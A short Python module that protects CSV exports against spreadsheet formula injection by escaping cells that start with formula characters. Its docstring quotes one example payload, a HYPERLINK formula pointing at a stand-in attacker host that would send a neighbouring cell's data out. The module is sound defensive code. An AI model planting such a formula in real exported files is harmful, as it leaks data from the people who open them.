"""CSV files that staff open in a spreadsheet, written so that no cell is a formula.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a
carriage return) as a formula: an API client named ``=HYPERLINK("http://evil.example/?"&A2,"x")``
would become a live link that sends the next cell away when a compliance officer opens the
report (CSV injection). Such a cell is written with a leading apostrophe, which spreadsheets show
as text and do not compute; every other cell is written as it is.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_text(value: Any) -> Any:
    """``value`` as a spreadsheet may hold it: a string that would start a formula gets a
    leading apostrophe; anything else is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


class SpreadsheetWriter:
    """``csv.writer`` whose every cell goes through :func:`as_text`."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([as_text(value) for value in row])
